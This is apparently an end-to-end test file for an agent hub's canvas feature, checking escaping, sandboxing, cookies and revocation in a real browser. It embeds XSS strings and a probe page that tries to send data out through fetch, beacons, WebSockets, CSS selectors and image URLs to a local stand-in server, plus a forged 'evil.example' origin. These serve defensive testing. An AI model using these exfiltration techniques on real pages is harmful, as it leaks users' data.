/** Canvases in a real browser, made by a real agent process, served by the started program: seen, sent back, shut off from everything else. */
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { CanvasShare } from "../../src/contract/canvas.ts";
import { accessibility, another, launch, openWindow, say, signIn, whyNoBrowser, type Window } from "../support/browser.ts";
import { type HubProcess, type Said, until } from "../support/hub-process.ts";
import { startPublicHub } from "../support/public-hub.ts";

const PIN = "739215";
const missing = whyNoBrowser();
const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };

let hub: HubProcess;
let browser: Browser;
let url: string;

/** A server of somebody else's: whatever reaches it has got out. */
const elsewhere = { connections: 0, requests: [] as string[], port: 0 };
const listener = createHttpServer((request, response) => {
  elsewhere.requests.push(request.url ?? "");
  response.writeHead(200, { "access-control-allow-origin": "*" }).end("out");
}).on("connection", () => (elsewhere.connections += 1));

describe.skipIf(missing !== undefined)(`a canvas (${missing ?? "in Chromium"})`, () => {
  beforeAll(async () => {
    ({ hub, url } = await startPublicHub({ MOS_HUB_PIN: PIN }));
    browser = await launch();
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    elsewhere.port = (listener.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await browser?.close();
    await hub?.end();
    listener.close();
  });

  /** What the agent shows, as its card tells it. */
  async function show(share: CanvasShare): Promise<{ id: string; link: string; code: string }> {
    const said = await hub.cli("chat", "--once", `show ${JSON.stringify(share)}`, "--thread", "shown");
    const card = cardsOf(said)[0];
    if (!card) throw new Error(`no card: ${said.stdout} ${said.stderr}`);
    return { id: String(card["id"]), link: String(card["url"]), code: String(card["code"]) };
  }

  async function opened(link: string, options = {}): Promise<Window> {
    const window = await openWindow(browser, options);
    await window.page.goto(link);
    return window;
  }

  const FORM: CanvasShare = {
    title: "Order <b>now</b>",
    content: {
      markdown: "What would you *like*? <script>document.title = 'broken'</script>",
      table: {
        columns: ["Coffee", "Price"],
        rows: [
          ["Espresso", 2.2],
          ["<img src=x onerror=alert(1)>", 3],
        ],
      },
      form: {
        fields: [
          { name: "cups", label: "Cups", kind: "number", required: true },
          { name: "size", label: "Size", kind: "choice", required: false, options: [{ value: "l", label: "Large" }] },
          { name: "away", label: "To take away", kind: "boolean", required: false },
          { name: "note", label: "Note", kind: "text", required: false },
        ],
        buttons: ["Send", "Later"],
      },
    },
  };

  test.each([
    ["a desk", {}],
    ["a phone", PHONE],
  ])("markdown, table and form on %s: words stay words, and the secret leaves the address", async (_name, options) => {
    const { link } = await show(FORM);
    const { page, complaints } = await opened(link, options);
    await page.getByRole("heading", { name: "Order <b>now</b>" }).waitFor();
    expect(page.url()).toBe(link.replace(/#.*/, ""));
    expect(await page.getByRole("cell").allTextContents()).toEqual(["Espresso", "2.2", "<img src=x onerror=alert(1)>", "3"]);
    expect(await page.title()).toBe("Order <b>now</b> · mos-hub");
    await page.getByText("open a link of your own").waitFor();
    expect(await page.getByRole("button", { name: "Send" }).count()).toBe(0);
    expect(await accessibility({ page, complaints })).toEqual([]);
    expect(await page.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
    // The cookie it got for the secret is enough from now on.
    await page.reload();
    await page.getByRole("heading", { name: "Order" }).waitFor();
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test("a signed-in person fills it in: the thread shows who and what, and the agent is told", async () => {
    const desk = await openWindow(browser);
    await signIn(desk, hub, PIN);
    await say(desk, "survey");
    const link = desk.page.getByRole("link", { name: "Your coffee" });
    await link.waitFor();
    const { page, complaints } = await another(desk);
    await page.goto(new URL((await link.getAttribute("href")) ?? "", url).href);
    await page.getByLabel("Name of the coffee").fill("Flat white");
    await page.getByLabel("Size").selectOption("large");
    await page.getByLabel("Cups").fill("2");
    await page.getByLabel("To take away").selectOption("yes");
    await page.getByRole("button", { name: "Order" }).dblclick();
    await page.getByText("Sent. The answer comes in the conversation.").waitFor();
    await desk.page.getByRole("listitem").filter({ hasText: "Name of the coffee: Flat white" }).first().waitFor();
    await until("the agent was told", async () => (await hub.prompts()).some((text) => text.includes('"coffee":"Flat white"')));
    const told = (await hub.prompts()).filter((text) => text.includes("Your coffee"));
    expect(told).toEqual([expect.stringContaining('{"coffee":"Flat white","size":"large","cups":2,"takeaway":true}')]);
    expect(complaints).toEqual([]);
    await desk.page.context().close();
  });

  test("what the hub refuses is said at the form, which keeps what was filled in", async () => {
    const desk = await openWindow(browser);
    await signIn(desk, hub, PIN);
    const { link, id } = await show(FORM);
    await desk.page.goto(link.replace(/#.*/, ""));
    await desk.page.getByLabel("Note").fill("hot");
    await desk.page.evaluate("document.querySelector('form').noValidate = true");
    await desk.page.getByRole("button", { name: "Send" }).click();
    await desk.page.getByText('"Cups" needs an answer.').waitFor();
    expect(await desk.page.getByLabel("Note").inputValue()).toBe("hot");
    // Another version comes while somebody fills it in: it waits to be asked for.
    await show({ ...FORM, title: "Order later", canvas_id: id });
    await desk.page.getByText("There is a newer version.").waitFor();
    expect(await desk.page.getByLabel("Note").inputValue()).toBe("hot");
    await desk.page.getByRole("button", { name: "Show it" }).click();
    await desk.page.getByRole("heading", { name: "Order later" }).waitFor();
    await desk.page.getByRole("button", { name: "Older" }).click();
    await desk.page.getByRole("heading", { name: "Order <b>now</b>" }).waitFor();
    await desk.page.context().close();
  });

  test("an agent's own page runs, and reaches nothing: not the network, not the hub, not the page around it", async () => {
    const out = `http://127.0.0.1:${elsewhere.port}`;
    const html = `<style>@import url(${out}/import.css); body { background: url(${out}/css-image) } @font-face { font-family: x; src: url(${out}/font) } p { font-family: x }
      input[value^="s"] { background-image: url(${out}/css-exfiltration) }</style>
      <link rel="stylesheet" href="${out}/style"><link rel="prefetch" href="${out}/prefetch"><link rel="preload" as="image" href="${out}/preload">
      <p id="said">no</p><button id="go">Go</button><input value="secret"><img src="${out}/image"><iframe src="${out}/frame"></iframe><object data="${out}/object"></object>
      <form id="f" action="${out}/form"><button>x</button></form><a id="a" href="${out}/link" ping="${out}/ping">x</a>
      <script>
        const tried = [];
        const tell = () => { document.getElementById("said").textContent = "ran: " + tried.join(", "); };
        const attempt = (name, work) => { try { const done = work(); tried.push(name + (done ? "" : " nothing")); if (done?.catch) done.catch(() => {}); } catch { tried.push(name + " refused"); } };
        attempt("fetch", () => fetch("${out}/fetch"));
        attempt("hub", () => fetch("${url}/v1/approvals", { credentials: "include" }).then(() => tried.push("REACHED THE HUB"), () => tried.push("hub kept away")).then(tell));
        attempt("beacon", () => navigator.sendBeacon("${out}/beacon"));
        attempt("socket", () => new WebSocket("${out.replace("http", "ws")}/socket"));
        attempt("cookie", () => document.cookie);
        attempt("parent", () => parent.document.title);
        attempt("storage", () => localStorage.length + 1);
        attempt("top", () => { top.location = "${out}/top"; });
        attempt("popup", () => window.open("${out}/popup"));
        attempt("form", () => document.getElementById("f").submit());
        attempt("worker", () => new Worker("data:text/javascript,fetch('${out}/worker')"));
        new Image().src = "${out}/script-image?" + document.querySelector("input").value;
        tell();
        document.getElementById("go").addEventListener("click", () => { location.href = "${out}/navigation"; });
      </script>`;
    const { link } = await show({ title: "A page", content: { html } });
    Object.assign(elsewhere, { connections: 0, requests: [] });
    const { page } = await opened(link);
    const frame = page.frameLocator("iframe").first();
    // How its call to the hub ends is told last.
    const said = await frame.locator("#said", { hasText: /^ran:.*(?:REACHED THE HUB|hub kept away)/ }).textContent();
    expect(said).toContain("ran:");
    expect(said).toContain("cookie refused");
    expect(said).toContain("parent refused");
    expect(said).toContain("storage refused");
    expect(said).toContain("popup nothing");
    expect(said).not.toContain("REACHED");
    await frame.locator("#go").click();
    await until("the frame was kept from going elsewhere", async () => {
      const urls = await Promise.all(page.frames().map((one) => one.url()));
      return urls.some((one) => one.startsWith("chrome-error:"));
    });
    expect(page.url()).toBe(link.replace(/#.*/, ""));
    expect(await page.title()).toBe("A page · mos-hub");
    expect(elsewhere).toMatchObject({ connections: 0, requests: [] });
    await page.context().close();
  });

  test("nor does what a browser may fetch ahead: not so much as a connection is opened", async () => {
    let connections = 0;
    const listening = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listening.listen(0, "127.0.0.1", resolve));
    const out = `http://127.0.0.1:${(listening.address() as AddressInfo).port}`;
    const rels = ["dns-prefetch", "preconnect", "prefetch", "prerender", "modulepreload", "next"];
    const rules = { source: "list", urls: [`${out}/speculated`], eagerness: "immediate" };
    const html = `${rels.map((rel) => `<link rel="${rel}" href="${out}/${rel}">`).join("")}
      <script type="speculationrules">${JSON.stringify({ prefetch: [rules], prerender: [rules] })}</script>
      <a href="${out}/link">foreseen</a><p id="said">no</p>
      <script>
        for (const rel of ${JSON.stringify(rels)}) {
          const link = document.createElement("link");
          link.rel = rel;
          link.href = "${out}/by-script/" + rel;
          document.head.append(link);
        }
        document.getElementById("said").textContent = "ran";
        // Long enough for what waits until the page is idle.
        setTimeout(() => { document.getElementById("said").textContent = "rested"; }, 2000);
      </script>`;
    const { link } = await show({ title: "A page", content: { html } });
    const { page } = await opened(link);
    await page.frameLocator("iframe").getByText("rested").waitFor();
    expect(connections).toBe(0);
    const headers = ["", "/page/1"].map(async (path) => {
      const answer = await page.context().request.get(`${link.replace(/#.*/, "")}${path}`);
      return answer.headers()["x-dns-prefetch-control"];
    });
    expect(await Promise.all(headers)).toEqual(["off", "off"]);
    // What counts here counts: the same without the policy does connect.
    const free = await page.context().newPage();
    await free.goto(`http://127.0.0.1:${elsewhere.port}/`);
    await free.setContent(html);
    await until("it is connected to", () => connections > 0);
    await page.context().close();
    listening.close();
  });

  test("the frame's page is no page of its own, and no other site may frame the canvas", async () => {
    const { id, link } = await show({ title: "A page", content: { html: "<p>inside</p>" } });
    const { page } = await opened(link);
    await page.frameLocator("iframe").getByText("inside").waitFor();
    const alone = await page.context().newPage();
    const response = await alone.goto(`${url}/canvas/${id}/page/1`);
    expect(response?.status()).toBe(404);
    await alone.goto(`http://127.0.0.1:${elsewhere.port}/`);
    await alone.setContent(`<iframe src="${url}/canvas/${id}"></iframe>`);
    await until("the frame is refused", () => alone.frames().some((one) => one.url().startsWith("chrome-error:")));
    await page.context().close();
  });

  test("a GET by a preview changes nothing: no view, no record, no link used up", async () => {
    const { id, link } = await show(FORM);
    const before = await opens(id);
    for (const path of ["", "/view", "/page/1", "/events", "/open", "/submit"])
      expect((await fetch(`${url}/canvas/${id}${path}`)).status).toBe(
        path === "" ? 200 : path === "/open" || path === "/submit" ? 404 : 401,
      );
    const text = await (await fetch(link)).text();
    expect(text).not.toContain("Order");
    expect(await opens(id)).toBe(before);
    const { page } = await opened(link);
    await page.getByRole("heading", { name: "Order" }).waitFor();
    expect(await opens(id)).toBe(before + 1);
    await page.context().close();
  });

  test("what is sent is taken from its own page, from a person, and from nobody else", async () => {
    const { id, link } = await show(FORM);
    const answer = await post(id, "open", { link: link.split("#")[1] });
    const cookie = answer.headers.get("set-cookie")?.split(";")[0] ?? "";
    expect(answer.headers.get("set-cookie")).toMatch(/; Path=\/canvas\/cnv_[\w-]+; HttpOnly; SameSite=Strict; Expires=/);
    const body = { id: crypto.randomUUID(), revision: 1, button: "Send", values: { cups: "1" } };
    const nobody = await post(id, "submit", body, { cookie });
    expect([nobody.status, ((await nobody.json()) as { title: string }).title]).toEqual([
      403,
      expect.stringContaining("link of one's own"),
    ]);
    const foreign = await post(id, "submit", body, { cookie, origin: "https://evil.example" });
    expect(foreign.status).toBe(403);
    expect((await post(id, "open", { link: "x".repeat(43) })).status).toBeGreaterThanOrEqual(400);
    const other = await show(FORM);
    expect((await fetch(`${url}/canvas/${other.id}/view`, { headers: { cookie } })).status).toBe(401);
  });

  test("revoked while somebody looks: it goes from the screen, its card says so, and its link opens nothing", async () => {
    const { id, link } = await show(FORM);
    const { page } = await opened(link);
    await page.getByRole("heading", { name: "Order" }).waitFor();
    expect((await hub.cli("canvas", "revoke", id)).code).toBe(0);
    await page.getByText("has ended").waitFor();
    expect(await page.getByRole("heading", { name: "Order" }).count()).toBe(0);
    const late = await opened(link);
    await late.page.getByText("This canvas has ended: it was revoked.").waitFor();
    expect(await stateOf(id)).toBe("revoked");
    await page.context().close();
    await late.page.context().close();
  });

  test("expired: the card says so and the page is empty", async () => {
    const { id, link } = await show({ ...FORM, expires_in_ms: 15_000 });
    const { page } = await opened(link);
    await page.getByRole("heading", { name: "Order" }).waitFor();
    await page.getByText("has ended").waitFor();
    expect(await stateOf(id)).toBe("expired");
    await page.context().close();
  });

  async function stateOf(id: string): Promise<unknown> {
    const [listed] = (await hub.cli("canvas", "list")).events;
    const canvases = (listed?.["canvases"] ?? []) as Record<string, unknown>[];
    return canvases.find((one) => one["id"] === id)?.["state"];
  }

  async function opens(id: string): Promise<number> {
    const [listed] = (await hub.cli("audit", "list", "--limit", "500")).events;
    const entries = listed?.["entries"] as { what: string; subject: string; about?: string }[];
    return entries.filter(({ what, subject }) => what === "canvas.opened" && subject === id).length;
  }

  function post(id: string, path: string, body: unknown, headers: Record<string, string> = {}): Promise<Response> {
    const common = { "content-type": "application/json", origin: url };
    return fetch(`${url}/canvas/${id}/${path}`, { method: "POST", headers: { ...common, ...headers }, body: JSON.stringify(body) });
  }
});

function cardsOf({ events }: Said): Record<string, unknown>[] {
  return events.flatMap(({ card }) =>
    (card as { type?: string } | undefined)?.type === "canvas" ? [card as Record<string, unknown>] : [],
  );
}
